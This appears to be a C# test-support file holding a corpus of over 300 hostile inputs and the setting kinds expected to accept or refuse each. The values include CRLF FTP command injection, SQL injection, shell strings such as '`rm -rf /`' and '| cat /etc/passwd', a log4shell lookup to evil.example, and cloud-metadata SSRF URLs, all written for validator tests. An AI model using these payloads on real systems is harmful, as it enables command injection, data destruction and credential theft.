namespace ClarityConnect.Testing.Settings;

/// <summary>
/// The hostile-input corpus for settings: what each kind of setting must accept and refuse. The expectation is stated
/// per entry here, by hand, not computed with the rules under test:
/// <list type="bullet">
/// <item>control characters (CR, LF, NUL, C1), invisible formatting characters (bidi controls, zero-width, BOM, soft
/// hyphen), line/paragraph separators, private-use and unassigned code points, white space at either end, and values
/// longer than 1 KB are refused by every kind;</item>
/// <item>printable text (quotes, SQL, SOQL, OData, script, path traversal, non-ASCII digits, names) is accepted by
/// credentials (secrets, user names, keys) and queue names (queue names up to 200 characters, credentials up to 1024),
/// and refused by every address-like kind unless it is a valid address of that kind;</item>
/// <item>URLs to link-local or metadata addresses in any spelling, with user-info, a query or fragment, dot segments,
/// encoded control characters, a well-known service port, or plain http to a host other than this machine are refused
/// by the URL kinds (and by host kinds, which take no URL at all);</item>
/// <item>host fields take a DNS name (IDNA, with its domain when not ASCII), a dotted-quad IPv4 or a bracketed IPv6
/// address and an optional port, nothing else;</item>
/// <item>the API version takes two ASCII digits and <c>.0</c>, nothing else;</item>
/// <item>the phone region takes a two-letter region code in capitals that libphonenumber knows, nothing else;</item>
/// <item>DNS-name fields take what host fields take, less IP addresses and ports;</item>
/// <item>certificate fields take PEM text of certificate blocks only (line breaks allowed), nothing else: no private
/// key, no other block, no damaged base64, no control character besides line breaks.</item>
/// </list>
/// </summary>
public static class HostileValues
{
    private static readonly SettingKind[] Text = [SettingKind.Credential, SettingKind.QueueName];
    private static readonly SettingKind[] LongText = [SettingKind.Credential];
    private static readonly SettingKind[] WebUrl = [SettingKind.Credential, SettingKind.QueueName, SettingKind.Url, SettingKind.HostOrUrl, SettingKind.FolderOrUrl];
    private static readonly SettingKind[] HostName = [SettingKind.Credential, SettingKind.QueueName, SettingKind.Host, SettingKind.HostOrUrl];
    private static readonly SettingKind[] DnsHost = [.. HostName, SettingKind.DnsName];
    private static readonly SettingKind[] FtpHost = [SettingKind.Credential, SettingKind.QueueName, SettingKind.Host];
    private static readonly SettingKind[] Folder = [SettingKind.Credential, SettingKind.QueueName, SettingKind.FolderOrUrl];
    private static readonly SettingKind[] GuidLike = [SettingKind.Credential, SettingKind.QueueName, SettingKind.ApplicationId, SettingKind.Host, SettingKind.HostOrUrl, SettingKind.DnsName];
    private static readonly SettingKind[] VersionLike = [SettingKind.Credential, SettingKind.QueueName, SettingKind.ApiVersion];

    /// <summary>The corpus (over 300 strings).</summary>
    public static IReadOnlyList<HostileValue> All { get; } = Build();

    /// <summary>The values the issue found stored, with the kinds of setting that stored them: each must now be refused by them.</summary>
    public static IReadOnlyList<(string Value, SettingKind[] Kinds)> IssueFindings { get; } =
    [
        ("\r\nDELE x", [SettingKind.Credential, SettingKind.QueueName]),
        ("pass\r\nDELE x", [SettingKind.Credential, SettingKind.QueueName]),
        ("secret\0", [SettingKind.Credential, SettingKind.QueueName]),
        (new string('s', 10 * 1024), [SettingKind.Credential, SettingKind.QueueName]),
        ("https://169.254.169.254/latest/meta-data/", [SettingKind.Url, SettingKind.HostOrUrl, SettingKind.FolderOrUrl]),
        ("https://user:pass@evil.example/", [SettingKind.Url, SettingKind.HostOrUrl, SettingKind.FolderOrUrl]),
        ("http://127.0.0.1:22/", [SettingKind.Url, SettingKind.HostOrUrl, SettingKind.FolderOrUrl]),
        ("http://recordings.example/", [SettingKind.FolderOrUrl, SettingKind.Url, SettingKind.HostOrUrl]),
        ("62.0\n", [SettingKind.ApiVersion]),
        ("٦٢.0", [SettingKind.ApiVersion]),
        ("csi\u202Eexample.com", [SettingKind.Host, SettingKind.HostOrUrl]),
        ("csi\u200Bexample.com", [SettingKind.Host, SettingKind.HostOrUrl]),
        ("中文名字", [SettingKind.Host, SettingKind.HostOrUrl]),
        ("Smith_", [SettingKind.Host, SettingKind.HostOrUrl]),
        ("555-0100_", [SettingKind.Host, SettingKind.HostOrUrl]),
    ];

    private static List<HostileValue> Build()
    {
        var all = new List<HostileValue>();
        void Add(string label, string value, params SettingKind[] acceptedBy) => all.Add(new HostileValue(label, value, acceptedBy.ToHashSet()));

        // Every C0 and C1 control character and DEL, inside an otherwise harmless value.
        foreach (var c in Enumerable.Range(0, 0x20).Concat(Enumerable.Range(0x7f, 0x21)))
        {
            Add($"control U+{c:X4}", $"ab{(char)c}cd");
        }

        Add("CRLF FTP command injection", "\r\nDELE x");
        Add("password with CRLF command", "pass\r\nDELE x");
        Add("header injection", "value\r\nX-Injected: 1");
        Add("trailing NUL", "secret\0");
        Add("NUL alone", "\0");
        Add("API version with newline", "62.0\n");
        Add("API version with CR", "62.0\r");
        Add("tab inside", "a\tb");
        Add("URL with LF", "https://login.salesforce.com/\n");
        Add("host with CRLF", "csi.example.com\r\n");

        // Invisible formatting characters: soft hyphen, Arabic letter mark, Mongolian vowel separator, zero-width
        // space/joiners, LRM/RLM, bidi embeddings, overrides and isolates, word joiner, invisible operators, BOM,
        // interlinear annotations, a language tag; then separators, private use and non-characters.
        foreach (var c in new[] { 0x00AD, 0x061C, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E,
                     0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0xFEFF, 0xFFF9, 0xFFFA, 0xFFFB, 0xE0001,
                     0x2028, 0x2029, 0xE000, 0xF8FF, 0xFFFE, 0xFFFF, 0x0378 })
        {
            Add($"invisible U+{c:X4} in a host name", $"csi{char.ConvertFromUtf32(c)}example.com");
        }

        Add("bidi override in a URL", "https://login.salesforce.com\u202E/");
        Add("bidi file-name trick", "\u202Egnp.exe");
        Add("BOM first", "\uFEFFsecret");
        Add("soft hyphen in a URL host", "https://log\u00ADin.salesforce.com/");

        // Lengths: 200 fits a queue name, 1024 a credential; over 1 KB nothing.
        Add("200 characters", new string('a', 200), Text);
        Add("201 characters", new string('a', 201), LongText);
        Add("1024 characters", new string('k', 1024), LongText);
        Add("1025 characters", new string('k', 1025));
        Add("10 KB", new string('s', 10 * 1024));
        Add("10 KB of lines", string.Concat(Enumerable.Repeat("x\r\n", 3500)));
        Add("long URL under the cap", "https://x.example/" + new string('a', 1500), SettingKind.Url, SettingKind.HostOrUrl, SettingKind.FolderOrUrl);
        Add("URL over the cap", "https://x.example/" + new string('a', 2100));
        Add("host of 319 characters", string.Join('.', Enumerable.Repeat(new string('a', 63), 5)), LongText);
        Add("host label of 64", new string('a', 64) + ".example", Text);

        // White space.
        Add("leading space", " lead");
        Add("trailing space", "trail ");
        Add("space only", " ");
        Add("spaces only", "   ");
        Add("leading no-break space", "\u00A0nbsp");
        Add("trailing no-break space", "nbsp\u00A0");
        Add("trailing ideographic space", "x\u3000");
        Add("leading em space", "\u2003em");
        Add("API version with a trailing space", "62.0 ");
        Add("API version with a leading space", " 62.0");
        Add("inner space", "in side", Text);
        Add("passphrase", "correct horse battery staple", Text);

        // Printable text: data for credentials and queue names, never an address.
        foreach (var (label, value) in new[]
        {
            ("apostrophe", "O'Brien"), ("double quotes", "\"quoted\""), ("SQL drop", "'; DROP TABLE sessions; --"), ("SQL tautology", "' OR '1'='1"),
            ("SOQL breakout", "O'Brien' OR Name != '"), ("SOQL query", "SELECT Id FROM Contact WHERE Phone = '' OR Id != ''"),
            ("SOSL", "FIND {x*} IN ALL FIELDS RETURNING Contact"), ("OData", "$filter=contains(fullname,'x') or true"), ("Bobby Tables", "Robert'); DROP TABLE Students;--"),
            ("SQL comment", "admin'--"), ("numeric tautology", "1 OR 1=1"), ("script", "<script>alert(1)</script>"), ("log4shell", "${jndi:ldap://evil.example/a}"),
            ("placeholder", "{{SYSTEM.CallerPhoneNumber}}"), ("encoded NUL", "%00"), ("encoded CRLF", "%0d%0aSet-Cookie: x=1"), ("backticks", "`rm -rf /`"),
            ("command substitution", "$(reboot)"), ("pipe", "| cat /etc/passwd"), ("separators", "a;b&c"), ("UNC path", "\\\\server\\share"),
            ("dot dot", ".."), ("path traversal", "../../etc/passwd"), ("Windows traversal", "..\\..\\windows\\win.ini"), ("filter-evading traversal", "....//....//etc/passwd"),
            ("encoded traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"), ("name with underscore", "Smith_"), ("phone with underscore", "555-0100_"), ("Chinese name", "中文名字"),
            ("diacritics", "Ünïcödé"), ("emoji", "emoji 😀"), ("zero", "0"), ("minus one", "-1"), ("JSON array text", "[]"), ("JSON object text", "{}"),
            ("escaped NUL text", "\\u0000"), ("escaped CRLF text", "\\r\\n"), ("javascript URL", "javascript:alert(1)"), ("data URL", "data:text/html,<b>x</b>"),
            ("file URL", "file:///etc/passwd"), ("ftp URL", "ftp://files.example/"), ("protocol-relative URL", "//evil.example/"), ("format string", "%s%s%s%n"),
            ("XML entity", "<!ENTITY x SYSTEM \"file:///etc/passwd\">"), ("CSV formula", "=HYPERLINK(\"https://evil.example\")"), ("relative folder", "relative/folder"),
            ("Windows folder (not absolute on this OS)", "C:\\recordings"), ("UNC folder", "//server/share"), ("folder with dot dot", "/var/recordings/../../etc"),
            ("folder with dot", "/var/./recordings"), ("URL with a space", "https://evil.example/a b"), ("URL with a backslash", "https://login.salesforce.com\\@evil.example"),
            ("host with underscore", "ex_ample.com"), ("bare IPv6", "::1"), ("bare IPv6 address", "2001:db8::10"), ("port only", ":21"),
        })
        {
            Add(label, value, Text);
        }

        // Names that are valid single-label host names, odd as they look.
        foreach (var value in new[] { "null", "true", "1e3", "Smith", "csi", "localhost" })
        {
            Add($"single-label host '{value}'", value, DnsHost);
        }

        // Region codes: a known one in capitals is a phone region (and a single-label host and DNS name); nothing else is.
        foreach (var value in new[] { "US", "GB", "XK" })
        {
            Add($"phone region {value}", value, [.. DnsHost, SettingKind.PhoneRegion]);
        }

        foreach (var value in new[] { "us", "Gb", "ZZ", "EU", "USA", "U1" })
        {
            Add($"not a phone region {value}", value, DnsHost);
        }

        // Digits of other scripts look like an API version but are not one.
        foreach (var value in new[] { "٦٢.0", "۶۲.0", "६२.0", "৬২.0", "๖๒.0", "６２.0", "𝟔𝟐.0", "62.٠", "٦٢" })
        {
            Add($"non-ASCII digits {value}", value, Text);
        }

        Add("API version", "62.0", VersionLike);
        Add("API version 99", "99.0", VersionLike);
        foreach (var value in new[] { "62", "v62.0", "062.0", "62.00", "6.0", "62.1", "62,0" })
        {
            Add($"not an API version {value}", value, Text);
        }

        Add("GUID", "3f2504e0-4f89-11d3-9a0c-0305e82c3301", GuidLike);
        Add("GUID in capitals", "3F2504E0-4F89-11D3-9A0C-0305E82C3301", GuidLike);
        Add("GUID in braces", "{3f2504e0-4f89-11d3-9a0c-0305e82c3301}", Text);
        Add("GUID without hyphens", "3f2504e04f8911d39a0c0305e82c3301", DnsHost);
        Add("GUID with a leading space", " 3f2504e0-4f89-11d3-9a0c-0305e82c3301");
        Add("GUID with a newline", "3f2504e0-4f89-11d3-9a0c-0305e82c3301\n");

        // URLs that are fine.
        foreach (var value in new[]
        {
            "https://login.salesforce.com", "https://test.salesforce.com/", "https://contoso.my.salesforce.com", "https://contoso.crm.dynamics.com",
            "https://login.microsoftonline.com/contoso/oauth2/v2.0/token", "HTTPS://LOGIN.SALESFORCE.COM", "https://xn--bcher-kva.example/", "https://bücher.example/",
            "https://csi.example.com:8443/events", "http://localhost:8080/", "http://127.0.0.1:5000", "http://[::1]:8080/", "https://10.0.0.5/",
            "https://192.168.1.10:8443/", "https://127.0.0.1/", "https://x.example/a%20b",
        })
        {
            Add($"URL {value}", value, WebUrl);
        }

        // URLs a security reviewer refuses: metadata and link-local in every spelling, user-info, plain http off this
        // machine, well-known ports, queries, fragments, traversal, encoded control characters, malformed ones.
        foreach (var value in new[]
        {
            "https://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/", "https://169.254.170.2/v2/credentials",
            "https://169.254.169.254:443/", "https://[fe80::1]/", "https://[fe80::a9fe:a9fe]/", "https://[::ffff:169.254.169.254]/",
            "https://[::ffff:a9fe:a9fe]/", "https://[::a9fe:a9fe]/", "https://[64:ff9b::a9fe:a9fe]/", "https://[fe80::1%25eth0]/", "https://0.0.0.0/", "https://0/",
            "https://2852039166/", "https://0xA9FEA9FE/", "https://0251.0376.0251.0376/", "https://127.1/", "https://1.2.3/", "https://[::]/",
            "https://224.0.0.1/", "https://255.255.255.255/", "https://metadata.google.internal/computeMetadata/v1/", "https://[fd00:ec2::254]/",
            "https://100.100.100.200/", "https://168.63.129.16/", "https://user:pass@evil.example/", "https://user@evil.example/",
            "https://login.salesforce.com@evil.example/", "http://127.0.0.1:22/", "https://127.0.0.1:22/", "https://evil.example:25/", "http://evil.example/",
            "http://10.0.0.5/", "http://192.168.1.10:8080/", "http://login.salesforce.com", "http://recordings.example/", "https://evil.example/#frag",
            "https://evil.example/?q=1", "https://evil.example/a/../b", "https://evil.example/%2e%2e/b", "https://evil.example/..", "https://evil.example/./a",
            "https://evil.example/%0d%0aX-Injected:1", "https://evil.example/%zz", "https://evil.example:0/", "https://evil.example:99999/",
            "https://evil.example:+443/", "https://evil.example:0443/", "https://ex_ample.com/", "https://a..b/", "https:///path", "https://", "https:evil.example",
            "https://evil.example/ä", "https://[::1/", "https://ｅｘａｍｐｌｅ.com/", "https://中文名字/", "https://-lead.example/", "gopher://evil.example/",
        })
        {
            Add($"bad URL {value}", value, Text);
        }

        // Hosts that are fine, for host fields (and, where the port suits https, for host-or-URL fields; where they are
        // names without a port, for DNS-name fields).
        foreach (var value in new[] { "csi.example.com", "CSI.EXAMPLE.COM", "ftp-1.csi.example.com", "bücher.example", "xn--bcher-kva.example", "a-b.c-d.example", "中文名字.example" })
        {
            Add($"host {value}", value, DnsHost);
        }

        foreach (var value in new[] { "csi.example.com:8443", "127.0.0.1", "192.0.2.10", "[::1]", "[2001:db8::10]:2121", "127.0.0.1:2121", "10.1.2.3:8443" })
        {
            Add($"host {value}", value, HostName);
        }

        foreach (var value in new[] { "ftp.example.com:21", "192.0.2.10:21", "csi.example.com:22", "[2001:db8::10]:990" })
        {
            Add($"FTP host {value}", value, FtpHost);
        }

        foreach (var value in new[]
        {
            "169.254.169.254", "169.254.169.254:21", "[fe80::1]", "[fe80::1%eth0]", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "0.0.0.0", "0.0.0.0:21",
            "2852039166", "0xA9FEA9FE", "127.1", "01.2.3.4", "1.2.3.256", "1.2.3.4.5", "ｅｘａｍｐｌｅ.com", "host_name.example", "-lead.example", "trail-.example",
            "a..b", "trailing.dot.", ".lead.dot", "evil.example/path", "user@host.example", "user:pass@host.example", "host.example:", "host.example:port",
            "host.example:0", "host.example:65536", "host.example:021", "host.example:٢١", "metadata.google.internal", "metadata", "[::]", "224.0.0.251",
            "[fd00:ec2::254]", "100.100.100.200", "[64:ff9b::a9fe:a9fe]", "host example",
        })
        {
            Add($"bad host {value}", value, Text);
        }

        // Folders for the recordings root.
        foreach (var value in new[] { "/var/recordings", "/mnt/recordings/site 1", "/etc/passwd", "/srv/Aufnahmen/Grüße" })
        {
            Add($"folder {value}", value, Folder);
        }

        Add("folder with NUL", "/var/rec\0ordings");
        Add("folder with LF", "/var/recordings\n");

        // PEM: a certificate (LF or CRLF line breaks, two in a row) is accepted by certificate fields only (its line
        // breaks are control characters to every other kind); keys, other blocks and damaged ones by none.
        var certificate = TestCertificates.Pem("hostile-corpus-ca");
        var key = TestCertificates.PrivateKeyPem();
        Add("PEM certificate", certificate, SettingKind.CertificatePem);
        Add("PEM certificate with CRLF", certificate.Replace("\n", "\r\n", StringComparison.Ordinal), SettingKind.CertificatePem);
        Add("PEM chain of two", certificate + "\n" + TestCertificates.Pem("hostile-corpus-intermediate"), SettingKind.CertificatePem);
        Add("PEM certificate and its private key", certificate + "\n" + key);
        Add("PEM private key alone", key);
        Add("PEM public key", TestCertificates.PublicKeyPem());
        Add("PEM certificate with damaged base64", certificate.Replace("\n", "\n!!!!", StringComparison.Ordinal));
        Add("PEM certificate cut short", certificate[..(certificate.Length / 2)]);
        Add("PEM certificate with NUL", certificate + "\0");
        Add("PEM certificate with a tab", certificate.Replace("-----BEGIN CERTIFICATE-----", "\t-----BEGIN CERTIFICATE-----", StringComparison.Ordinal));
        Add("PEM headers without body", "-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----");
        Add("PEM certificate over 64 KB", string.Concat(Enumerable.Repeat(certificate + "\n", 65_536 / certificate.Length + 1)));
        return all;
    }
}
